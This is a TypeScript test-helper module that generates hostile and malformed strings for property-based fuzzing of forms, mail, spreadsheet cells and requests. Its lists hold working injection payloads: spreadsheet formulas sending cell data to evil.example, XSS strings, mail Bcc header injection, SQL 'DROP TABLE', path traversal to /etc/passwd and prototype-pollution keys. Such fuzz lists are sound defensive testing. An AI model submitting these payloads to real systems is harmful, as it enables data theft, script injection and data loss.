// Text from people who mean harm, and from programs that are broken: what a form, a mail, a cell or a request may hold.

import type { Arbitrary } from 'fast-check';
import { IS_FULL } from './sample.ts';
import fc from './seeded-fast-check.ts';

/** What does harm as it stands. */
const WHOLE = [
  '',
  ' ',
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  "'=1+1",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  '</script><script>alert(1)//',
  '<!--',
  ']]>',
  'javascript:alert(1)',
  '{{mustache}}',
  '{{{mustache}}}',
  '{{#a}}',
  '<?!= 1 ?>',
  '$& $1 $`',
  '{"a":1}',
  '[]',
  'null',
  'undefined',
  'NaN',
  'TRUE',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '{"__proto__":{"ok":true}}',
  'Anna\r\nBcc: thief@evil.example',
  'Anna\nBcc: thief@evil.example\n\n<b>x</b>',
  'Anna\u2028Bcc: thief@evil.example',
  'Anna <thief@evil.example>, x',
  '"Anna" <anna@example.org>',
  'thief@evil.example',
  'anna@example.org,thief@evil.example',
  'anna@example.org\r\nBcc: thief@evil.example',
  'anna@еxample.org',
  'Аnna Itо',
  '=?UTF-8?B?QmNjOiB0aGllZkBldmlsLmV4YW1wbGU=?=',
  '0',
  '-0',
  '1e309',
  '9007199254740993',
  '-2147483649',
  '0x10',
  '1/0',
  '9999-12-31',
  '0000-00-00',
  '2026-02-30',
  '12/31/99999',
  '1899-12-29',
  '2026-13-01T25:61:61',
  '../../etc/passwd',
  "'; DROP TABLE members; --",
  '%00%0d%0a',
  '\\',
] as const;

/** What does harm between other words. */
const PIECES = [
  '\u0000',
  '\r\n',
  '\n',
  '\r',
  '\t',
  '\u0085',
  '\u2028',
  '\u001B[31m',
  '\uFEFF',
  '\uD83D',
  '\uDE00',
  '\u202E',
  '\u2066',
  '\u200B',
  '\u200D',
  '\u0301\u0301\u0301\u0301',
  'ｅ',
  'ß',
  'İ',
  'ﬃ',
  '👩🏽‍🚀',
  '🇺🇸',
  '"',
  "'",
  '`',
  ',',
  ';',
  '<',
  '>',
  '&',
  '&amp;',
  '\\',
  '/',
  '|',
  '=',
  ': ',
  '--',
  '.',
  '@',
  '{{',
  '}}',
  ' ',
  'Anna',
  'ليلى',
] as const;

/** Longer than a cell takes. */
const LONG = [
  'x'.repeat(50_001),
  ' '.repeat(60_000),
  '\n'.repeat(60_000),
  '😀'.repeat(25_001),
  `=${'1+'.repeat(30_000)}1`,
  '"'.repeat(50_001),
  '<'.repeat(50_001),
  '<a '.repeat(20_000),
  '('.repeat(50_001),
  'a,'.repeat(30_000),
  '> '.repeat(30_000),
  'a@'.repeat(30_000),
  `${'a'.repeat(50_000)}@example.org`,
  '=?'.repeat(30_000),
  '\uD800'.repeat(50_001),
  '\u0301'.repeat(50_001),
] as const;

let taken = 0;

/** How many hostile texts the properties of this file have tried so far, each counted where it is used. */
export const inputsTried = (): number => taken;

const counted = <T>(texts: Arbitrary<T>): Arbitrary<T> =>
  texts.map((text) => {
    taken++;
    return text;
  });

const mixed = fc
  .array(fc.oneof(fc.constantFrom(...PIECES, ...WHOLE), fc.string({ unit: 'binary', maxLength: 8 })), {
    minLength: 1,
    maxLength: 8,
  })
  .map((parts) => parts.join(''));

/** As long as a person types. */
export const nasty = counted(
  fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...WHOLE) },
    { weight: 6, arbitrary: mixed },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  ),
);

/** As above, and one in twenty longer than a cell takes. */
export const nastyOfAnyLength = fc.oneof(
  { weight: 19, arbitrary: nasty },
  { weight: 1, arbitrary: counted(fc.constantFrom(...LONG)) },
);

/** Every text that is longer than a cell, for what may be slow. */
export const ENDLESS: readonly string[] = LONG;

/** So many runs in a full run, and a fiftieth of them in `npm test`. */
export const runs = (full: number) => ({ numRuns: IS_FULL ? full : Math.ceil(full / 50) });
